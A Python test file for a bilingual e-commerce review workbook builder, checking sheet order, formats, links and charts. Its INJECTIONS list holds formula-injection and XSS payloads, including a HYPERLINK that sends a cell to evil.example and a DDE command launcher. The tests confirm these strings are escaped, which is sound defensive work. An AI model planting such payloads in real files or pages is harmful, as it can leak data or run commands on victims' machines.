"""The workbook: all sheets, real numbers, our own formulas and links only, tables that can be read back."""

from __future__ import annotations

import re
from dataclasses import replace
from functools import cache
from io import BytesIO
from typing import TYPE_CHECKING, Any
from zipfile import ZipFile

import pandas as pd
import pytest
from openpyxl import load_workbook

from ecreview.model.dataset import FileReceipt, Refusal
from ecreview.model.metrics import METRICS
from ecreview.model.scope import Goals
from ecreview.model.section import Column, Figure, Grid, Note, NoteKind, Section
from ecreview.model.text import LANGS, Text, Unit, same
from ecreview.report.figures import Difference
from ecreview.report.workbook import build_workbook
from ecreview.report.workbook.cells import Writer
from ecreview.report.workbook.look import BODY, Styles
from ecreview.report.workbook.tiles import difference_format
from tests.conftest import ROOT
from tests.report.opening import find, opened, values
from tests.report.story import retold, story, with_long_list

if TYPE_CHECKING:
    from ecreview.model.text import Lang
    from ecreview.review import Review

ZH = (
    "00 封面与口径", "01 一页结论", "02 目标达成", "03 核心趋势", "04 流量与渠道", "05 转化漏斗", "06 商品结构", "07 价格与促销",
    "08 用户与复购", "09 用户分层与标签", "10 财务利润", "11 库存", "12 流程与协同", "13 异常与机会", "14 差距归因", "15 风险清单",
    "16 行动清单", "17 上次行动复核", "18 对账结果", "19 数据质量与清洗日志", "20 指标字典", "21 证据索引",
)  # fmt: skip
EN = (
    "00 Cover and basis", "01 One-page verdict", "02 Goals", "03 Trends", "04 Traffic and channels", "05 Funnel", "06 Products",
    "07 Price and promotion", "08 Customers", "09 Segments and tags", "10 Profit", "11 Inventory", "12 Process", "13 Anomalies",
    "14 Gap attribution", "15 Risks", "16 Actions", "17 Last actions check", "18 Reconciliation", "19 Data quality log",
    "20 Metric dictionary", "21 Evidence index",
)  # fmt: skip
FORMULAS_PER_GOAL, RISK_ROWS = 2, 5

INJECTIONS = (
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1",
    "＝1+1", "＋1", "－1", "＠a", "|x", "%0A=1", "'=1+1", '=WEBSERVICE("http://127.0.0.1")', "=IMPORTXML(1,2)",
    "[click](javascript:alert(1))", "<img src=x onerror=alert(1)>", "![](http://127.0.0.1/x.png)", "$x^2$", ":material/delete: :red[x]",
)  # fmt: skip


@cache
def told(lang: Lang) -> bytes:
    """Return the workbook of the story, built once."""
    return build_workbook(story(), lang)


@pytest.fixture(scope="module")
def book() -> Any:
    return load_workbook(BytesIO(told("zh")))


@pytest.mark.parametrize(("lang", "titles"), [("zh", ZH), ("en", EN)])
def test_all_22_sheets_stand_in_order_before_the_hidden_ones(
    lang: Lang, titles: tuple[str, ...]
) -> None:
    made: Any = load_workbook(BytesIO(told(lang)))
    assert made.sheetnames == [*titles, "_ecreview", "_data"]
    assert [made[t].sheet_state for t in titles] == ["visible"] * 22
    assert made["_ecreview"].sheet_state == "veryHidden"
    assert made["_data"].sheet_state == "hidden"
    assert made.active.title == titles[1]
    assert all(len(title) <= 31 for title in titles)


def test_the_same_review_gives_the_same_bytes() -> None:
    assert build_workbook(story(), "zh") == told("zh")


def test_no_entry_of_the_file_carries_the_time_of_its_making() -> None:
    with ZipFile(BytesIO(told("zh"))) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core) == ["2026-06-21T00:00:00Z"] * 2


def test_only_our_formulas_and_internal_links_are_in_the_file(book: Any) -> None:
    content = told("zh")
    with ZipFile(BytesIO(content)) as archive:
        sheets = {
            n: archive.read(n).decode()
            for n in archive.namelist()
            if n.startswith("xl/worksheets/sheet")
        }
        names = archive.namelist()
    formulas = [f for xml in sheets.values() for f in re.findall(r"<f>(.*?)</f>", xml)]
    assert len(formulas) == FORMULAS_PER_GOAL * 2 + RISK_ROWS
    assert not [n for n in names if "externalLink" in n or "vba" in n]
    links = [
        c.hyperlink for s in book.worksheets for row in s.iter_rows() for c in row if c.hyperlink
    ]
    assert links
    assert all(link.target is None for link in links)
    for link in links:
        title, _, cell = link.location.rpartition("!")
        assert re.fullmatch(r"[A-Z]+\d+", cell)
        assert title.strip("'") in book.sheetnames


def with_injections() -> Review:
    """Return the story with each dangerous string wherever a person's text can stand."""
    evil = INJECTIONS
    frame = pd.DataFrame({"word": list(evil), "id": list(evil)})
    columns = (Column("word", same("=title")), Column("id", same("+id"), Unit.ID))
    section = Section(
        "funnel", "insight", same("=1+1"), same("@SUM(1)"),
        figures=(Figure("cart_rate", same("=figure"), 0.5, Unit.RATE, numerator=1, denominator=2),),
        grids=(Grid("g", same("=grid"), columns, frame, caption=same("=caption")),),
        notes=tuple(Note(NoteKind.FINDING, same(word), title=same(word)) for word in evil),
    )  # fmt: skip
    made = retold(section)
    actions = tuple(
        replace(made.actions[0], id=f"A-{i}", text=same(word), owner=same(word), metric=word)
        for i, word in enumerate(evil)
    )
    goals = Goals(tuple(replace(made.goals.items[0], scope=word, owner=word) for word in evil))
    files = tuple(replace(made.dataset.files[0], name=word) for word in evil)
    dataset = replace(made.dataset, files=files)
    return replace(made, actions=actions, goals=goals, dataset=dataset)


def test_text_of_people_is_never_a_formula_or_a_link() -> None:
    content = build_workbook(with_injections(), "zh")
    with ZipFile(BytesIO(content)) as archive:
        xml = "".join(
            archive.read(n).decode()
            for n in archive.namelist()
            if n.startswith("xl/worksheets/sheet")
        )
        rels = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".rels"))
    assert len(re.findall(r"<f>", xml)) == FORMULAS_PER_GOAL * len(INJECTIONS) + RISK_ROWS
    assert "evil.example" not in rels
    assert 'TargetMode="External"' not in rels
    made: Any = load_workbook(BytesIO(content))
    shown = {
        c.value: c
        for row in made["05 转化漏斗"].iter_rows()
        for c in row
        if isinstance(c.value, str)
    }
    for word in INJECTIONS:
        plain = word.replace("\t", "").replace("\r", "")
        assert shown[plain].data_type == "s"
        assert shown[plain].quotePrefix


@pytest.mark.parametrize("value", [-500, -0.05, 0, 12_345.67])
def test_numbers_stay_numbers_refunds_included(book: Any, value: float) -> None:
    sheet = book.create_sheet("scratch")
    cell = Writer(sheet, Styles(book)).write_cell(1, 1, value, BODY)
    assert cell.data_type == "n"
    assert cell.value == value
    book.remove(sheet)


def test_formulas_take_cell_addresses_only(book: Any) -> None:
    sheet = book.create_sheet("scratch")
    writer = Writer(sheet, Styles(book))
    with pytest.raises(ValueError, match="not a cell address"):
        writer.write_formula(1, 1, "={0}", ("HYPERLINK(1)",), BODY, "0")
    book.remove(sheet)


def test_nothing_else_in_the_package_writes_into_a_workbook() -> None:
    for path in sorted((ROOT / "ecreview").rglob("*.py")):
        if path.parts[-2:] == ("workbook", "cells.py") or "samples" in path.parts:
            continue
        source = path.read_text(encoding="utf-8")
        assert not re.search(
            r"\.to_excel\(|\bws\.append\(|sheet\.append\(|cell\.value = ", source
        ), path


def test_headline_cells_hold_values_and_ids_stay_text(book: Any) -> None:
    verdict = book["01 一页结论"]
    title = find(verdict, "支付金额（万元）")
    value = verdict.cell(title.row + 1, title.column)
    assert value.value == pytest.approx(268.39674)
    assert verdict.cell(title.row + 1, title.column + 2).value == pytest.approx(-0.1053442)
    order = find(book["18 对账结果"], "3420617755120094471")
    assert order.data_type == "s"
    assert order.number_format == "@"


def test_a_difference_of_rates_is_shown_in_points_with_an_arrow() -> None:
    apart = Difference(-0.006, is_points=True, is_good=False, is_to_target=True)
    assert difference_format(apart, "zh") == '▲0.00" 点";▼0.00" 点";0.00" 点"'


def test_money_is_in_yuan_with_two_decimals_and_rates_are_percent(book: Any) -> None:
    sheet = book["03 核心趋势"]
    money = find(sheet, "支付金额（元）")
    assert sheet.cell(money.row, money.column + 1).value == 2_683_967.40
    assert "0.00" in sheet.cell(money.row, money.column + 1).number_format
    rate = find(sheet, "支付转化率")
    assert sheet.cell(rate.row, rate.column + 1).value == pytest.approx(15_070 / 512_600)
    assert "%" in sheet.cell(rate.row, rate.column + 1).number_format


def test_an_undefined_figure_is_an_empty_cell_with_its_reason(book: Any) -> None:
    sheet = book["03 核心趋势"]
    cell = find(sheet, "30 日复购率")
    row = [c.value for c in sheet[cell.row]]
    assert row[cell.column] is None
    assert "还没到能看的时间" in row


def test_the_list_of_differences_sums_to_what_is_unexplained(book: Any) -> None:
    sheet = book["18 对账结果"]
    total = find(sheet, "合计 4 行")
    amounts = [sheet.cell(total.row - i, total.column + 4).value for i in range(4, 0, -1)]
    assert amounts == [110.0, 118.4, 54.0, 30.2]
    assert sheet.cell(total.row, total.column + 4).value == 312.6
    pair = find(sheet, "未解释合计")
    assert sheet.cell(pair.row, pair.column + 9).value == 312.6


def test_every_figure_has_one_evidence_row_and_both_link_to_each_other(book: Any) -> None:
    made, index = story(), book["21 证据索引"]
    figures = [figure for section in made.told for figure in section.figures]
    labels = [
        c
        for row in index.iter_rows(min_col=2, max_col=2)
        for c in row
        if str(c.value).startswith("E-")
    ]
    assert [c.value for c in labels] == [f"E-{i:03}" for i in range(1, len(figures) + 1)]
    for label in labels:
        place = index.cell(
            label.row,
            index.max_column - 1
            if index.cell(label.row, index.max_column).value is None
            else index.max_column,
        )
        title, _, cell = place.hyperlink.location.rpartition("!")
        target = book[title.strip("'")]
        assert target[cell].value == index.cell(label.row, 5).value
        back = [c.hyperlink.location for c in target[target[cell].row] if c.hyperlink]
        assert f"'21 证据索引'!B{label.row}" in back


def test_a_sheet_without_data_stays_and_says_what_it_needs() -> None:
    lacking = opened(
        replace(
            story(),
            sections=tuple(s for s in story().sections if s.key in ("overview", "clusters")),
        )
    )
    text = " ".join(str(v) for v in values(lacking["06 商品结构"]))
    assert "这个版本还不计算" in text
    every = " ".join(str(v) for s in lacking.worksheets for v in values(s))
    assert "缺少数据：需要订单报表：千牛" in every
    assert "缺少数据：需要 两份能互相核对的表" not in every  # the pairs are still there


@pytest.mark.parametrize("lang", LANGS)
def test_a_review_that_tells_nothing_still_makes_a_workbook(lang: Lang) -> None:
    made = story()
    bare = replace(
        made,
        sections=(),
        reconciliations=(),
        actions=(),
        goals=Goals(),
        grade=None,
        dataset=replace(made.dataset, files=(), findings=()),
    )
    assert len(opened(bare, lang).sheetnames) == 24


def test_a_section_of_an_unknown_analysis_is_shown_where_its_core_belongs() -> None:
    toy = Section(
        "toy",
        "risk",
        same("toy"),
        same("A toy was found."),
        (Figure("toy", same("toys"), 3.0, Unit.COUNT),),
    )
    made = opened(replace(story(), sections=(*story().sections, toy)))
    assert "A toy was found." in values(made["13 异常与机会"])
    assert "toys" in values(made["21 证据索引"])


@pytest.mark.parametrize(("rows", "listed", "says"), [(5_000, 5_000, False), (5_001, 5_000, True)])
def test_a_list_is_cut_at_five_thousand_rows_and_says_so(
    rows: int,
    listed: int,
    says: bool,  # noqa: FBT001 - given by the parameters
) -> None:
    sheet = opened(with_long_list(rows))["05 转化漏斗"]
    ids = [
        c.value
        for row in sheet.iter_rows(min_col=3, max_col=3)
        for c in row
        if str(c.value).startswith("34206")
    ]
    assert len(ids) == listed
    assert ("共 5,001 行，此处列前 5,000 行（按金额）。" in values(sheet)) is says


# Words of the files and of people, which no language of ours changes.
THEIRS = (
    "订单报表",
    "个人账单",
    "运营",
    "小额打款未写备注",
    "换号支付",
    "赔付",
    "运费补差",
    "退款",
    "已停一个",
)


def test_every_metric_is_in_the_dictionary_with_the_sheets_that_show_it(book: Any) -> None:
    sheet = book["20 指标字典"]
    keys = [c.value for row in sheet.iter_rows(min_col=2, max_col=2) for c in row]
    assert {m.key for m in METRICS} <= set(keys)
    assert "03" in [c.value for c in sheet[find(sheet, "gmv_pay").row]]


def test_every_sheet_prints_in_landscape_fit_to_the_width_with_page_numbers(book: Any) -> None:
    for title in ZH:
        sheet = book[title]
        assert sheet.page_setup.orientation == "landscape"
        assert (sheet.page_setup.paperSize, sheet.page_setup.fitToWidth) == (9, 1)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert "&P" in sheet.oddFooter.center.text
        assert not sheet.sheet_view.showGridLines
        assert sheet.freeze_panes is not None or title == "01 一页结论"
    assert book["01 一页结论"].page_setup.fitToHeight == 1


def test_native_charts_of_every_shape_that_has_one(book: Any) -> None:
    counts = {s.title: len(s._charts) for s in book.worksheets if s._charts}
    assert counts == {
        "01 一页结论": 1,
        "03 核心趋势": 1,
        "05 转化漏斗": 2,
        "09 用户分层与标签": 2,
        "13 异常与机会": 2,
        "14 差距归因": 1,
        "18 对账结果": 1,
    }


def test_too_small_a_sample_shows_its_counts_and_no_bar(book: Any) -> None:
    sheet = book["_data"]
    name = find(sheet, "站外小红书 · 168 人 · 4 / 168 人 · 样本不足")
    assert sheet.cell(name.row, name.column + 1).value is None
    assert sheet.cell(name.row - 1, name.column + 1).value == pytest.approx(0.0128)


def test_unfinished_cells_of_a_heat_map_are_hatched_and_starred(book: Any) -> None:
    sheet = book["08 用户与复购"]
    done, open_cell = find(sheet, 0.084), find(sheet, 0.088)
    assert done.fill.patternType == "solid"
    assert open_cell.fill.patternType == "lightUp"
    assert "*" in open_cell.number_format
    assert "*" not in done.number_format


def test_an_english_workbook_has_no_chinese_word_of_ours() -> None:
    made: Any = load_workbook(BytesIO(told("en")))
    names = {m.title.zh for m in METRICS}  # the dictionary gives both names
    found = [
        v
        for s in made.worksheets
        if s.title != "_ecreview"
        for v in values(s)
        if isinstance(v, str)
    ]
    ours = [re.sub("|".join(THEIRS), "", v) for v in found if v not in names]
    assert not [v for v in ours if re.search("[一-鿿]", v)]


@pytest.mark.parametrize("lang", LANGS)
def test_texts_keep_no_open_placeholder(lang: Lang) -> None:
    made: Any = load_workbook(BytesIO(told(lang)))
    found = [
        v
        for s in made.worksheets
        if s.title != "_ecreview"
        for v in values(s)
        if isinstance(v, str) and re.search(r"\{\w*\}", v)
    ]
    assert not found


def test_building_leaves_the_frames_untouched() -> None:
    made = story()
    before = [frame.copy(deep=True) for frame in frames(made)]
    build_workbook(made, "zh")
    for one, other in zip(before, frames(made), strict=True):
        pd.testing.assert_frame_equal(one, other)


def frames(review: Review) -> list[pd.DataFrame]:
    told = review.told
    return [g.frame for s in told for g in s.grids] + [c.frame for s in told for c in s.charts]


def test_rows_set_aside_are_listed_with_their_reason_and_money(book: Any) -> None:
    sheet = book["19 数据质量与清洗日志"]
    row = [c.value for c in sheet[find(sheet, "订单报表.xlsx · Sheet1 · 36").row]]
    assert row[3] == 37 or 37 in row
    assert 123.45 in row
    text = Text(zh="个人账单", en="")
    assert any(text.zh in str(v) for v in values(sheet))


def test_why_a_file_was_not_used_stands_in_full_on_the_cover() -> None:
    made = story()
    refused = FileReceipt("账单.pdf", "d", 3, "", error=Refusal("FILE_UNKNOWN", same("这是 PDF。")))
    files = (*made.dataset.files, refused)
    cover = opened(replace(made, dataset=replace(made.dataset, files=files)))["00 封面与口径"]
    assert "“账单.pdf”没有使用：这是 PDF。" in values(cover)
    assert "没有使用" in [cell.value for cell in cover[find(cover, "账单.pdf").row]]
